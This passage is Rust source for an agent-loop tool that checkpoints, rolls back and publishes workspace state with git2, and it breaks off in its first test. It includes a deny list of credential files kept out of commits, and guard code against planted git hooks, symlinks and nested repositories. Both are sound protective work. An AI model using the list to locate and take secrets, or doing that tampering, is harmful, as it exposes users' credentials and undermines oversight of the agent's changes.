//! Epoch checkpoints and rollback with git (git2, no `git` binary).
//!
//! Maestro keeps its history beside the user's, never in it: a checkpoint is
//! a commit of the whole working tree (tracked and untracked files, not
//! ignored ones) stored under `refs/maestro/<loop>/<epoch>/start`; a
//! successful epoch is committed the same way to `refs/maestro/<loop>/<epoch>/done`
//! and tagged `maestro/<loop>/<epoch>`. HEAD, the branch and the index are
//! never touched, so the user's own uncommitted work stays exactly as it was
//! at the checkpoint. A workspace that is not a git repository is initialised.
//!
//! Secrets (`.env`, keys, credentials: [`SECRET_PATTERNS`]) never enter a
//! checkpoint or a commit, and a rollback leaves them alone; nested `.git`
//! entries never enter a tree. The tag of an epoch holds only the work: the
//! files the user tracks and those the loop wrote, not the user's other
//! untracked files. A guard (`guard`, `tampered`, `restore_guarded`) keeps
//! what git and the daemon trust — `.git/config`, `.git/hooks`,
//! `.git/info/attributes`, `.maestro/` — and finds nested `.git` entries.

use std::path::{Path, PathBuf};

use git2::build::CheckoutBuilder;
use git2::{Index, ObjectType, Oid, Repository, Signature};

#[derive(Debug, thiserror::Error)]
pub enum RollbackError {
    #[error("git: {0}")]
    Git(#[from] git2::Error),
    #[error("{path}: {source}")]
    Io { path: String, source: std::io::Error },
    #[error("invalid loop id {0:?}: use lowercase letters, digits and '-'")]
    LoopId(String),
    #[error("the workspace nests folders more than {MAX_DEPTH} deep ({0}…); Maestro does not checkpoint such a tree")]
    TooDeep(String),
}

/// Deepest folder nesting a checkpoint follows (deeper trees are refused, not recursed into).
pub const MAX_DEPTH: usize = 128;

/// Files never checkpointed, committed or rolled back (gitignore syntax).
pub const SECRET_PATTERNS: [&str; 17] = [
    ".env",
    ".env.*",
    "*.pem",
    "*.key",
    "*.p12",
    "*.pfx",
    "id_rsa*",
    "id_dsa*",
    "id_ecdsa*",
    "id_ed25519*",
    ".netrc",
    ".pgpass",
    ".git-credentials",
    ".aws/",
    ".ssh/",
    ".gnupg/",
    ".docker/config.json",
];

/// Where a successful loop's work was put for the user.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Published {
    /// The branch holding the work: `maestro/<loop>`, or the user's own.
    pub branch: String,
    /// The work was committed on the branch the user has checked out.
    pub on_current: bool,
    /// Why it is not on the current branch although that was asked for.
    pub note: String,
    /// The git command that takes the work onto the checked-out branch
    /// (empty when it is there already).
    pub take: String,
}

/// A successful epoch: the complete state (for rollbacks) and the tagged work.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Committed {
    /// `refs/maestro/<loop>/<epoch>/done`: every file, as the next epoch starts from it.
    pub checkpoint: String,
    /// `maestro/<loop>/<epoch>`: the user's tracked files and the loop's work.
    pub tagged: String,
}

/// A recorded state of the working tree.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Checkpoint {
    pub commit: String,
    pub reference: String,
}

/// A workspace under git.
pub struct GitWorkspace {
    repo: Repository,
    root: PathBuf,
}

fn check_loop_id(loop_id: &str) -> Result<(), RollbackError> {
    let ok = !loop_id.is_empty()
        && loop_id.len() <= 64
        && loop_id.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        && !loop_id.starts_with('-');
    if ok { Ok(()) } else { Err(RollbackError::LoopId(loop_id.to_string())) }
}

fn io_error(path: &Path) -> impl FnOnce(std::io::Error) -> RollbackError + '_ {
    move |source| RollbackError::Io { path: path.display().to_string(), source }
}

/// Deletes every `*.lock` file under `dir` (which may not exist).
fn remove_lock_files(dir: &Path) -> Result<usize, RollbackError> {
    let entries = match std::fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(0),
        Err(e) => return Err(io_error(dir)(e)),
    };
    let mut removed = 0;
    for entry in entries {
        let entry = entry.map_err(io_error(dir))?;
        let path = entry.path();
        if entry.file_type().map_err(io_error(&path))?.is_dir() {
            removed += remove_lock_files(&path)?;
        } else if path.extension().is_some_and(|e| e == "lock") {
            std::fs::remove_file(&path).map_err(io_error(&path))?;
            removed += 1;
        }
    }
    Ok(removed)
}

impl GitWorkspace {
    /// Opens the repository at `root`, initialising one if there is none.
    pub fn open_or_init(root: &Path) -> Result<GitWorkspace, RollbackError> {
        let root = root.canonicalize().map_err(io_error(root))?;
        let repo = match Repository::open(&root) {
            Ok(repo) if repo.workdir().is_some_and(|w| w.canonicalize().is_ok_and(|w| w == root)) => repo,
            _ => Repository::init(&root)?,
        };
        // In memory only (the repository's files are not changed): secrets count as ignored.
        repo.add_ignore_rule(&SECRET_PATTERNS.join("\n"))?;
        Ok(GitWorkspace { repo, root })
    }

    pub fn root(&self) -> &Path {
        &self.root
    }

    fn signature() -> Result<Signature<'static>, RollbackError> {
        Ok(Signature::now("maestro", "maestro@localhost")?)
    }

    /// A tree of the working directory as it is: every file that is not ignored.
    fn worktree_tree(&self) -> Result<Oid, RollbackError> {
        match self.tree_of(&self.root, Path::new(""))? {
            Some(oid) => Ok(oid),
            None => self.empty_tree(),
        }
    }

    fn empty_tree(&self) -> Result<Oid, RollbackError> {
        Ok(self.repo.treebuilder(None)?.write()?)
    }

    /// The tree of `dir` (relative path `rel`); `None` when nothing in it is kept.
    fn tree_of(&self, dir: &Path, rel: &Path) -> Result<Option<Oid>, RollbackError> {
        if rel.components().count() > MAX_DEPTH {
            return Err(RollbackError::TooDeep(rel.display().to_string()));
        }
        let mut builder = self.repo.treebuilder(None)?;
        let mut entries = 0;
        for entry in std::fs::read_dir(dir).map_err(io_error(dir))? {
            let entry = entry.map_err(io_error(dir))?;
            let name = entry.file_name();
            let rel_path = rel.join(&name);
            // The repository's own `.git`, and nested ones (another repository's hooks).
            if name == ".git" {
                continue;
            }
            let path = entry.path();
            let file_type = entry.file_type().map_err(io_error(&path))?;
            if self.repo.is_path_ignored(&rel_path)? {
                continue;
            }
            let (oid, mode) = if file_type.is_symlink() {
                let target = std::fs::read_link(&path).map_err(io_error(&path))?;
                (self.repo.blob(target.as_os_str().as_encoded_bytes())?, 0o120000)
            } else if file_type.is_dir() {
                match self.tree_of(&path, &rel_path)? {
                    Some(oid) => (oid, 0o040000),
                    None => continue,
                }
            } else if file_type.is_file() {
                use std::os::unix::fs::PermissionsExt;
                let executable = entry.metadata().map_err(io_error(&path))?.permissions().mode() & 0o111 != 0;
                (self.repo.blob_path(&path)?, if executable { 0o100755 } else { 0o100644 })
            } else {
                // Sockets, fifos and devices are not workspace content.
                continue;
            };
            builder.insert(&name, oid, mode)?;
            entries += 1;
        }
        Ok(if entries == 0 { None } else { Some(builder.write()?) })
    }

    fn commit_worktree(&self, reference: &str, message: &str, parent: Option<Oid>) -> Result<Oid, RollbackError> {
        let tree = self.repo.find_tree(self.worktree_tree()?)?;
        let parent = match parent {
            Some(oid) => Some(self.repo.find_commit(oid)?),
            None => self.repo.head().ok().and_then(|h| h.peel_to_commit().ok()),
        };
        let signature = Self::signature()?;
        let parents: Vec<&git2::Commit<'_>> = parent.iter().collect();
        let oid = self.repo.commit(None, &signature, &signature, message, &tree, &parents)?;
        self.repo.reference(reference, oid, true, message)?;
        Ok(oid)
    }

    /// Records the working tree at the start of an epoch.
    pub fn checkpoint(&self, loop_id: &str, epoch: u64) -> Result<Checkpoint, RollbackError> {
        self.checkpoint_stage(loop_id, epoch, "start")
    }

    /// Records the working tree at a named stage of an epoch (`start`, `valid`, …).
    pub fn checkpoint_stage(&self, loop_id: &str, epoch: u64, stage: &str) -> Result<Checkpoint, RollbackError> {
        check_loop_id(loop_id)?;
        check_loop_id(stage)?;
        let reference = format!("refs/maestro/{loop_id}/{epoch}/{stage}");
        let oid = self.commit_worktree(&reference, &format!("maestro: {stage} of {loop_id} epoch {epoch}"), None)?;
        Ok(Checkpoint { commit: oid.to_string(), reference })
    }

    /// A checkpoint from its commit id (as stored in a loop record).
    pub fn checkpoint_of(&self, commit: &str) -> Result<Checkpoint, RollbackError> {
        // A full commit id, or a reference such as `refs/maestro/<loop>/1/start`.
        let oid = match Oid::from_str(commit) {
            Ok(oid) if commit.len() == 40 => oid,
            _ => self.repo.revparse_single(commit)?.peel_to_commit()?.id(),
        };
        self.repo.find_commit(oid)?;
        Ok(Checkpoint { commit: oid.to_string(), reference: String::new() })
    }

    /// The epoch's commits, if it was committed (and tagged).
    pub fn committed(&self, loop_id: &str, epoch: u64) -> Option<Committed> {
        let tagged = self.tagged(loop_id, epoch)?;
        let done = self.repo.find_reference(&format!("refs/maestro/{loop_id}/{epoch}/done")).ok()?;
        Some(Committed { checkpoint: done.peel_to_commit().ok()?.id().to_string(), tagged })
    }

    /// Puts the working tree back exactly as it was at `checkpoint`: changed
    /// files restored, new files removed, deleted files recreated. Ignored
    /// files, HEAD and the index are left alone.
    pub fn rollback(&self, checkpoint: &Checkpoint) -> Result<(), RollbackError> {
        let commit = self.repo.find_commit(Oid::from_str(&checkpoint.commit)?)?;
        let tree = commit.tree()?;
        // A command may have put a link where the checkpoint has a folder or a file:
        // the checkout must create them again, never write through the link.
        self.unplant(&tree, Path::new(""))?;
        // A private index of the checkpoint: the user's index is never written.
        let mut index = Index::new()?;
        index.read_tree(&tree)?;
        let mut checkout = CheckoutBuilder::new();
        checkout.force().remove_untracked(true).recreate_missing(true).update_index(false);
        self.repo.checkout_index(Some(&mut index), Some(&mut checkout))?;
        Ok(())
    }

    /// Removes what stands where `tree` has a folder or a regular file but is a
    /// symbolic link or another kind of file, below the relative path `rel`.
    fn unplant(&self, tree: &git2::Tree<'_>, rel: &Path) -> Result<(), RollbackError> {
        for entry in tree.iter() {
            let name = entry.name().unwrap_or_default();
            let rel = rel.join(name);
            let path = self.root.join(&rel);
            let Ok(meta) = std::fs::symlink_metadata(&path) else { continue };
            let kind = meta.file_type();
            let wanted_dir = entry.kind() == Some(ObjectType::Tree);
            let wanted_file = entry.kind() == Some(ObjectType::Blob) && entry.filemode() != 0o120000;
            let misplaced = if wanted_dir {
                !kind.is_dir()
            } else {
                wanted_file && (kind.is_symlink() || !(kind.is_file() || kind.is_dir()))
            };
            if misplaced {
                // remove_file removes a link itself, never what it points to.
                std::fs::remove_file(&path).map_err(io_error(&path))?;
            }
            if wanted_dir {
                self.unplant(&self.repo.find_tree(entry.id())?, &rel)?;
            }
        }
        Ok(())
    }

    /// Paths (relative, `/`-separated) whose content, mode or existence differs
    /// between `checkpoint` and the working tree as it is (ignored files aside).
    pub fn changed_since(&self, checkpoint: &Checkpoint) -> Result<Vec<String>, RollbackError> {
        let old = self.repo.find_commit(Oid::from_str(&checkpoint.commit)?)?.tree()?;
        let new = self.repo.find_tree(self.worktree_tree()?)?;
        let diff = self.repo.diff_tree_to_tree(Some(&old), Some(&new), None)?;
        let mut paths = std::collections::BTreeSet::new();
        for delta in diff.deltas() {
            for file in [delta.old_file(), delta.new_file()] {
                if let Some(path) = file.path() {
                    paths.insert(path.to_string_lossy().into_owned());
                }
            }
        }
        Ok(paths.into_iter().collect())
    }

    /// A unified diff of `paths` between `checkpoint` and the working tree (at most `max` bytes).
    pub fn diff_since(&self, checkpoint: &Checkpoint, paths: &[String], max: usize) -> Result<String, RollbackError> {
        if paths.is_empty() {
            return Ok(String::new());
        }
        let old = self.repo.find_commit(Oid::from_str(&checkpoint.commit)?)?.tree()?;
        let new = self.repo.find_tree(self.worktree_tree()?)?;
        let mut options = git2::DiffOptions::new();
        for path in paths {
            options.pathspec(path);
        }
        options.disable_pathspec_match(true).context_lines(3);
        let diff = self.repo.diff_tree_to_tree(Some(&old), Some(&new), Some(&mut options))?;
        let mut out = String::new();
        let mut cut = false;
        diff.print(git2::DiffFormat::Patch, |_, _, line| {
            if out.len() > max {
                cut = true;
                return false;
            }
            let prefix = match line.origin() {
                origin @ ('+' | '-' | ' ') => origin.to_string(),
                _ => String::new(),
            };
            out.push_str(&prefix);
            out.push_str(&String::from_utf8_lossy(line.content()));
            true
        })
        .or_else(|e| if cut { Ok(()) } else { Err(e) })?;
        if cut {
            out.push_str("\n… (diff cut; read the files for the rest)\n");
        }
        Ok(out)
    }

    /// Removes the lock files a killed process left on this loop's own refs
    /// (`refs/maestro/<loop>/…`, `refs/tags/maestro/<loop>/…`). Only the loop
    /// writes those refs, so call it while holding the loop (e.g. on resume);
    /// the user's refs, HEAD and index are never touched. Returns how many
    /// locks were removed.
    pub fn clear_stale_locks(&self, loop_id: &str) -> Result<usize, RollbackError> {
        check_loop_id(loop_id)?;
        let git_dir = self.repo.path();
        let mut removed = 0;
        for dir in [git_dir.join("refs/maestro").join(loop_id), git_dir.join("refs/tags/maestro").join(loop_id)] {
            removed += remove_lock_files(&dir)?;
        }
        Ok(removed)
    }

    /// Records the working tree at the end of a successful epoch (the complete
    /// checkpoint under `refs/maestro/<loop>/<epoch>/done`) and tags the work
    /// `maestro/<loop>/<epoch>`: the files the user tracks, and those the loop
    /// added or changed since `baseline` (its first checkpoint). The tagged
    /// commits of a loop form a chain on top of the user's HEAD.
    pub fn commit(
        &self,
        loop_id: &str,
        epoch: u64,
        checkpoint: &Checkpoint,
        baseline: &Checkpoint,
        message: &str,
    ) -> Result<Committed, RollbackError> {
        check_loop_id(loop_id)?;
        let reference = format!("refs/maestro/{loop_id}/{epoch}/done");
        let complete = self.commit_worktree(&reference, message, Some(Oid::from_str(&checkpoint.commit)?))?;
        let all = self.repo.find_commit(complete)?.tree()?;
        let base = self.repo.find_commit(Oid::from_str(&baseline.commit)?)?.tree()?;
        let mut tracked = std::collections::BTreeSet::new();
        if let Ok(mut index) = self.repo.index() {
            // As the user's git left it on disk now, not as this handle last read it.
            let _ = index.read(true);
            tracked.extend(index.iter().map(|e| String::from_utf8_lossy(&e.path).into_owned()));
        }
        if let Some(head) = self.repo.head().ok().and_then(|h| h.peel_to_tree().ok()) {
            head.walk(git2::TreeWalkMode::PreOrder, |dir, entry| {
                if entry.kind() == Some(ObjectType::Blob) {
                    tracked.insert(format!("{dir}{}", entry.name().unwrap_or_default()));
                }
                git2::TreeWalkResult::Ok
            })?;
        }
        let keep = |path: &str, id: Oid| {
            tracked.contains(path) || base.get_path(Path::new(path)).map_or(true, |entry| entry.id() != id)
        };
        let work = match self.filtered(&all, "", &keep)? {
            Some(oid) => oid,
            None => self.empty_tree()?,
        };
        let parent = (1..epoch)
            .rev()
            .find_map(|e| self.tagged(loop_id, e))
            .and_then(|id| Oid::from_str(&id).ok())
            .and_then(|oid| self.repo.find_commit(oid).ok())
            .or_else(|| self.repo.head().ok().and_then(|h| h.peel_to_commit().ok()));
        let signature = Self::signature()?;
        let parents: Vec<&git2::Commit<'_>> = parent.iter().collect();
        let tree = self.repo.find_tree(work)?;
        let tagged = self.repo.commit(None, &signature, &signature, message, &tree, &parents)?;
        let object = self.repo.find_object(tagged, Some(ObjectType::Commit))?;
        self.repo.tag_lightweight(&format!("maestro/{loop_id}/{epoch}"), &object, true)?;
        Ok(Committed { checkpoint: complete.to_string(), tagged: tagged.to_string() })
    }

    /// Puts a successful loop's work where the user finds it: the branch
    /// `maestro/<loop>`, one commit per committed epoch (with the epoch's
    /// message) on top of the checked-out commit, each holding that commit's
    /// files with what the loop changed up to that epoch. Only the loop's
    /// changes (from its first checkpoint, `baseline`, to the epoch's complete
    /// state): the user's uncommitted edits from before the loop, ignored and
    /// secret files stay out. `git reset maestro/<loop>` then takes it onto
    /// the user's branch as a fast-forward that leaves the files as they are
    /// (`git merge` would refuse the loop's files, already in the folder).
    /// With `onto_current`, the checked-out branch is moved there itself when
    /// nobody moved it meanwhile, and the index takes the loop's paths only
    /// (what the user staged stays staged); otherwise `note` says why not.
    /// `None` when the loop committed nothing.
    pub fn publish(
        &self,
        loop_id: &str,
        last_epoch: u64,
        baseline: &Checkpoint,
        onto_current: bool,
    ) -> Result<Option<Published>, RollbackError> {
        check_loop_id(loop_id)?;
        let base = self.repo.find_commit(Oid::from_str(&baseline.commit)?)?.tree()?;
        let head = self.repo.head().ok().and_then(|h| h.peel_to_commit().ok());
        let head_tree = match &head {
            Some(commit) => commit.tree()?,
            None => self.repo.find_tree(self.empty_tree()?)?,
        };
        let signature = Self::signature()?;
        let (mut tip, mut done) = (None::<git2::Commit<'_>>, None);
        for epoch in 1..=last_epoch {
            let Some(tagged) = self.tagged(loop_id, epoch) else { continue };
            let Ok(complete) = self.repo.find_reference(&format!("refs/maestro/{loop_id}/{epoch}/done")) else {
                continue;
            };
            let complete = complete.peel_to_commit()?.tree()?;
            let tree = self.repo.find_tree(self.with_changes(&head_tree, &base, &complete)?)?;
            let message = self.repo.find_commit(Oid::from_str(&tagged)?)?.message().unwrap_or_default().to_string();
            let parent = tip.as_ref().or(head.as_ref());
            let parents: Vec<&git2::Commit<'_>> = parent.into_iter().collect();
            let id = self.repo.commit(None, &signature, &signature, &message, &tree, &parents)?;
            tip = Some(self.repo.find_commit(id)?);
            done = Some(complete);
        }
        let (Some(tip), Some(done)) = (tip, done) else { return Ok(None) };
        let branch = format!("maestro/{loop_id}");
        self.repo.branch(&branch, &tip, true)?;
        let take = format!("git reset {branch}");
        if !onto_current {
            return Ok(Some(Published { branch, on_current: false, note: String::new(), take }));
        }
        Ok(Some(match self.move_current_branch(loop_id, head.as_ref(), &tip, &base, &done)? {
            Ok(current) => Published { branch: current, on_current: true, note: String::new(), take: String::new() },
            Err(note) => Published { branch, on_current: false, note, take },
        }))
    }

    /// `onto` with what changed from `from` to `to`: files added, changed and removed.
    fn with_changes(
        &self,
        onto: &git2::Tree<'_>,
        from: &git2::Tree<'_>,
        to: &git2::Tree<'_>,
    ) -> Result<Oid, RollbackError> {
        let diff = self.repo.diff_tree_to_tree(Some(from), Some(to), None)?;
        let mut update = git2::build::TreeUpdateBuilder::new();
        for delta in diff.deltas() {
            if delta.status() == git2::Delta::Deleted {
                if let Some(path) = delta.old_file().path().filter(|p| onto.get_path(p).is_ok()) {
                    update.remove(path);
                }
            } else if let Some(path) = delta.new_file().path() {
                update.upsert(path, delta.new_file().id(), delta.new_file().mode());
            }
        }
        Ok(update.create_updated(&self.repo, onto)?)
    }

    /// Moves the checked-out branch from `head` to `tip` unless it moved
    /// meanwhile (compare and swap), and updates the index for the loop's
    /// paths only; the branch goes back if the index cannot be written.
    fn move_current_branch(
        &self,
        loop_id: &str,
        head: Option<&git2::Commit<'_>>,
        tip: &git2::Commit<'_>,
        base: &git2::Tree<'_>,
        done: &git2::Tree<'_>,
    ) -> Result<Result<String, String>, RollbackError> {
        let head_ref = self.repo.find_reference("HEAD")?;
        let Some(target) = head_ref.symbolic_target().ok().flatten().map(String::from) else {
            return Ok(Err("HEAD is detached, so the work is on its own branch".into()));
        };
        let Some(name) = target.strip_prefix("refs/heads/").map(str::to_string) else {
            return Ok(Err(format!("HEAD points at {target}, not a branch")));
        };
        let mut index = self.repo.index()?;
        // As the user's git left it on disk now, not as this handle last read it.
        index.read(true)?;
        let diff = self.repo.diff_tree_to_tree(Some(base), Some(done), None)?;
        for delta in diff.deltas() {
            if delta.status() == git2::Delta::Deleted {
                if let Some(path) = delta.old_file().path() {
                    let _ = index.remove_path(path);
                }
            } else if let Some(path) = delta.new_file().path() {
                index.add_path(path)?;
            }
        }
        let message = format!("maestro: {loop_id} succeeded");
        let moved = match head {
            Some(head) => self.repo.reference_matching(&target, tip.id(), true, head.id(), &message),
            None => self.repo.reference(&target, tip.id(), false, &message),
        };
        match moved {
            Ok(_) => {}
            Err(e) if matches!(e.code(), git2::ErrorCode::Modified | git2::ErrorCode::Exists) => {
                return Ok(Err(format!("{name} moved while the work was being put on it, so it is on its own branch")));
            }
            Err(e) => return Err(e.into()),
        }
        if let Err(e) = index.write() {
            match head {
                Some(head) => {
                    self.repo.reference(&target, head.id(), true, "maestro: the index could not follow")?;
                }
                None => self.repo.find_reference(&target)?.delete()?,
            }
            return Err(e.into());
        }
        Ok(Ok(name))
    }

    /// The commit tagged `maestro/<loop>/<epoch>`, if any.
    fn tagged(&self, loop_id: &str, epoch: u64) -> Option<String> {
        let tag = self.repo.find_reference(&format!("refs/tags/maestro/{loop_id}/{epoch}")).ok()?;
        Some(tag.peel_to_commit().ok()?.id().to_string())
    }

    /// The blobs of `tree` that `keep` accepts (path, blob id), as a new tree.
    fn filtered(
        &self,
        tree: &git2::Tree<'_>,
        prefix: &str,
        keep: &dyn Fn(&str, Oid) -> bool,
    ) -> Result<Option<Oid>, RollbackError> {
        let mut builder = self.repo.treebuilder(None)?;
        let mut entries = 0;
        for entry in tree.iter() {
            let name = entry.name().unwrap_or_default();
            let path = format!("{prefix}{name}");
            let id = match entry.kind() {
                Some(ObjectType::Tree) => {
                    let sub = self.repo.find_tree(entry.id())?;
                    match self.filtered(&sub, &format!("{path}/"), keep)? {
                        Some(id) => id,
                        None => continue,
                    }
                }
                _ if keep(&path, entry.id()) => entry.id(),
                _ => continue,
            };
            builder.insert(name, id, entry.filemode())?;
            entries += 1;
        }
        Ok(if entries == 0 { None } else { Some(builder.write()?) })
    }

    /// What git and the daemon trust, as it is: path (`git/config`,
    /// `git/hooks/…`, `git/info/attributes`, `maestro/…`) → content, and
    /// `nested` → the nested `.git` entries of the workspace, one per line.
    fn guarded(&self) -> Result<std::collections::BTreeMap<String, Vec<u8>>, RollbackError> {
        let mut files = std::collections::BTreeMap::new();
        let git = self.repo.path().to_path_buf();
        for (dir, prefix) in [(git.join("hooks"), "git/hooks"), (self.root.join(".maestro"), "maestro")] {
            collect(&dir, prefix, &mut files)?;
        }
        for (file, key) in [("config", "git/config"), ("info/attributes", "git/info/attributes")] {
            if let Ok(bytes) = std::fs::read(git.join(file)) {
                files.insert(key.to_string(), bytes);
            }
        }
        let mut nested = Vec::new();
        find_nested_git(&self.root, &self.root, 0, &mut nested);
        files.insert("nested".into(), nested.join("\n").into_bytes());
        Ok(files)
    }

    /// Records what git and the daemon trust under `refs/maestro/<loop>/<epoch>/guard`.
    pub fn guard(&self, loop_id: &str, epoch: u64) -> Result<String, RollbackError> {
        check_loop_id(loop_id)?;
        let mut index = Index::new()?;
        for (path, bytes) in self.guarded()? {
            let blob = self.repo.blob(&bytes)?;
            let entry = git2::IndexEntry {
                ctime: git2::IndexTime::new(0, 0),
                mtime: git2::IndexTime::new(0, 0),
                dev: 0,
                ino: 0,
                mode: 0o100644,
                uid: 0,
                gid: 0,
                file_size: bytes.len() as u32,
                id: blob,
                flags: 0,
                flags_extended: 0,
                path: path.into_bytes(),
            };
            index.add(&entry)?;
        }
        let tree = self.repo.find_tree(index.write_tree_to(&self.repo)?)?;
        let signature = Self::signature()?;
        let message = format!("maestro: guarded files of {loop_id} epoch {epoch}");
        let oid = self.repo.commit(None, &signature, &signature, &message, &tree, &[])?;
        self.repo.reference(&format!("refs/maestro/{loop_id}/{epoch}/guard"), oid, true, &message)?;
        Ok(oid.to_string())
    }

    /// The guarded paths that differ from `guard` (a new nested `.git` shows as `nested`).
    pub fn tampered(&self, guard: &str) -> Result<Vec<String>, RollbackError> {
        let then = self.guard_files(guard)?;
        let now = self.guarded()?;
        let mut changed: Vec<String> = now
            .iter()
            .filter(|(path, bytes)| then.get(*path) != Some(*bytes))
            .map(|(path, _)| path.clone())
            .chain(then.keys().filter(|path| !now.contains_key(*path)).cloned())
            .collect();
        changed.sort();
        changed.dedup();
        Ok(changed)
    }

    fn guard_files(&self, guard: &str) -> Result<std::collections::BTreeMap<String, Vec<u8>>, RollbackError> {
        let tree = self.repo.find_commit(Oid::from_str(guard)?)?.tree()?;
        let mut files = std::collections::BTreeMap::new();
        tree.walk(git2::TreeWalkMode::PreOrder, |dir, entry| {
            if let Ok(blob) = self.repo.find_blob(entry.id()) {
                files.insert(format!("{dir}{}", entry.name().unwrap_or_default()), blob.content().to_vec());
            }
            git2::TreeWalkResult::Ok
        })?;
        Ok(files)
    }

    /// Puts `.git/config`, `.git/hooks` and `.git/info/attributes` back as in
    /// `guard` and removes nested `.git` entries that were not there. `.maestro/`
    /// is not written: a person may have changed it.
    pub fn restore_guarded(&self, guard: &str) -> Result<(), RollbackError> {
        let then = self.guard_files(guard)?;
        let git = self.repo.path().to_path_buf();
        let hooks = git.join("hooks");
        if let Ok(entries) = std::fs::read_dir(&hooks) {
            for entry in entries.flatten() {
                let key = format!("git/hooks/{}", entry.file_name().to_string_lossy());
                if !then.contains_key(&key) {
                    let path = entry.path();
                    if path.is_dir() && !path.is_symlink() {
                        super::sandbox::remove_tree(&path).map_err(io_error(&path))?;
                    } else {
                        std::fs::remove_file(&path).map_err(io_error(&path))?;
                    }
                }
            }
        }
        for (key, bytes) in &then {
            let Some(rel) = key.strip_prefix("git/") else { continue };
            let path = git.join(rel);
            if let Some(parent) = path.parent() {
                std::fs::create_dir_all(parent).map_err(io_error(parent))?;
            }
            // A link planted in place of the file is replaced, not followed.
            if path.is_symlink() {
                std::fs::remove_file(&path).map_err(io_error(&path))?;
            }
            std::fs::write(&path, bytes).map_err(io_error(&path))?;
        }
        for (rel, key) in [("config", "git/config"), ("info/attributes", "git/info/attributes")] {
            if !then.contains_key(key) {
                let _ = std::fs::remove_file(git.join(rel));
            }
        }
        let allowed: Vec<String> = then
            .get("nested")
            .map(|b| String::from_utf8_lossy(b).lines().map(String::from).collect())
            .unwrap_or_default();
        let mut nested = Vec::new();
        find_nested_git(&self.root, &self.root, 0, &mut nested);
        for rel in nested.into_iter().filter(|n| !allowed.contains(n)) {
            let path = self.root.join(&rel);
            if path.is_dir() && !path.is_symlink() {
                super::sandbox::remove_tree(&path).map_err(io_error(&path))?;
            } else {
                std::fs::remove_file(&path).map_err(io_error(&path))?;
            }
        }
        Ok(())
    }
}

/// Every file below `dir` (no links followed) into `files` as `prefix/rel` → content.
fn collect(
    dir: &Path,
    prefix: &str,
    files: &mut std::collections::BTreeMap<String, Vec<u8>>,
) -> Result<(), RollbackError> {
    let Ok(entries) = std::fs::read_dir(dir) else { return Ok(()) };
    for entry in entries.flatten() {
        let path = entry.path();
        let key = format!("{prefix}/{}", entry.file_name().to_string_lossy());
        let kind = entry.file_type().map_err(io_error(&path))?;
        if kind.is_dir() {
            collect(&path, &key, files)?;
        } else if kind.is_symlink() {
            let target = std::fs::read_link(&path).map_err(io_error(&path))?;
            files.insert(key, format!("symlink:{}", target.display()).into_bytes());
        } else {
            files.insert(key, std::fs::read(&path).map_err(io_error(&path))?);
        }
    }
    Ok(())
}

/// Whether `dir` is a git directory under another name (a bare repository:
/// `HEAD`, `objects/`, `refs/`): git treats it as a repository and runs its
/// config for whoever works in it.
pub fn looks_like_git_dir(dir: &Path) -> bool {
    dir.join("HEAD").is_file() && dir.join("objects").is_dir() && dir.join("refs").is_dir()
}

/// Nested `.git` entries and bare repositories below `dir` (relative paths), not the workspace's own.
fn find_nested_git(root: &Path, dir: &Path, depth: usize, out: &mut Vec<String>) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    let mut entries: Vec<_> = entries.flatten().collect();
    entries.sort_by_key(|e| e.file_name());
    if dir != root && looks_like_git_dir(dir) {
        out.push(dir.strip_prefix(root).unwrap_or(dir).display().to_string());
        return;
    }
    for entry in entries {
        let path = entry.path();
        if entry.file_name() == ".git" {
            if dir != root {
                out.push(path.strip_prefix(root).unwrap_or(&path).display().to_string());
            }
            continue;
        }
        if depth < 16 && entry.file_type().is_ok_and(|t| t.is_dir()) {
            find_nested_git(root, &path, depth + 1, out);
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;
    use std::os::unix::fs::PermissionsExt;

    use sha2::{Digest, Sha256};

    use super::*;

    /// Every file below `root` except `.git`: path → (hash of content or link target, mode).
    fn fingerprint(root: &Path) -> BTreeMap<String, (String, u32)> {
        let mut out = BTreeMap::new();
        let mut stack = vec![root.to_path_buf()];
        while let Some(dir) = stack.pop() {
            for entry in std::fs::read_dir(&dir).unwrap() {
                let entry = entry.unwrap();
                let path = entry.path();
                let rel = path.strip_prefix(root).unwrap().display().to_string();
                if rel == ".git" {
                    continue;
                }
                let meta = std::fs::symlink_metadata(&path).unwrap();
                if meta.is_dir() {
                    out.insert(format!("{rel}/"), (String::new(), 0));
                    stack.push(path);
                    continue;
                }
                let bytes = if meta.file_type().is_symlink() {
                    std::fs::read_link(&path).unwrap().display().to_string().into_bytes()
                } else {
                    std::fs::read(&path).unwrap()
                };
                let hash = Sha256::digest(&bytes).iter().map(|b| format!("{b:02x}")).collect();
                out.insert(rel, (hash, meta.permissions().mode() & 0o777));
            }
        }
        out
    }

    fn write(root: &Path, rel: &str, content: &str) {
        let path = root.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    /// What an agent might do in a failed epoch.
    fn mess_up(root: &Path) {
        write(root, "src/api/app.py", "broken(\n");
        std::fs::remove_file(root.join("README.md")).unwrap();
        write(root, "src/api/new_module.py", "x = 1\n");
        write(root, "brand/new/dir/file.txt", "deep\n");
        std::fs::remove_dir_all(root.join("docs")).unwrap();
        std::fs::set_permissions(root.join("run.sh"), std::fs::Permissions::from_mode(0o644)).unwrap();
        std::fs::remove_file(root.join("link")).unwrap();
        std::os::unix::fs::symlink("README.md", root.join("other-link")).unwrap();
    }

    fn populate(root: &Path) {
        write(root, "README.md", "# project\n");
        write(root, "src/api/app.py", "def main():\n    pass\n");
        write(root, "docs/guide.md", "guide\n");
        write(root, "run.sh", "#!/bin/sh\necho hi\n");
        std::fs::set_permissions(root.join("run.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
        std::os::unix::fs::symlink("src/api/app.py", root.join("link")).unwrap();
    }

    #[test]
    fn rollback_restores_a_workspace_that_was_not_a_repository() {
        let dir = tempfile::tempdir().unwrap();
        populate(dir.path());
        let before = fingerprint(dir.path());
        let ws = GitWorkspace::open_or_init(dir.path()).unwrap();
        assert!(dir.path().join(".git").is_dir());
        let checkpoint = ws.checkpoint("loop-1", 1).unwrap();
